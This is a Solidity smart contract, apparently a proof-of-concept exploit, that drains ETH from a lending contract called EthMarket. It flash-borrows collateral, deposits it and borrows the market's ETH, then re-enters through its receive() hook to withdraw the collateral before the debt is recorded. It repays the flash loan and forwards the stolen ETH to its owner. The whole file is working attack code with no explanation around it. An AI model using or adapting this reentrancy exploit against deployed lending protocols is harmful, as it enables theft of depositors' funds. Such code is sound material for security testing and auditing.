// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../interfaces/IERC20.sol";
import {IERC3156FlashBorrower, IERC3156FlashLender} from "../interfaces/IERC3156.sol";
import {EthMarket} from "../lending/EthMarket.sol";

/// @notice Flash-borrows collateral, posts it, borrows the market's ETH, and while the market is
/// still sending that ETH (before it records the debt) takes the collateral back out. Repays the
/// loan with the collateral (plus the fee this contract was funded with) and keeps the ETH.
contract BorrowCallbackReentry is IERC3156FlashBorrower {
    address private immutable owner;
    EthMarket private market;
    address private collateral;

    constructor() {
        owner = msg.sender;
    }

    function start(IERC3156FlashLender lender, EthMarket market_, address collateral_, uint256 loan) external {
        require(msg.sender == owner);
        market = market_;
        collateral = collateral_;
        lender.flashLoan(this, collateral_, loan, "");
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok);
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        IERC20(token).approve(address(market), amount);
        market.depositCollateral(token, amount);
        uint256 limit = market.borrowLimit(address(this));
        uint256 cash = address(market).balance;
        market.borrow(limit < cash ? limit : cash);
        IERC20(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    receive() external payable {
        if (msg.sender == address(market)) {
            market.withdrawCollateral(collateral, market.collateralOf(address(this), collateral));
        }
    }
}
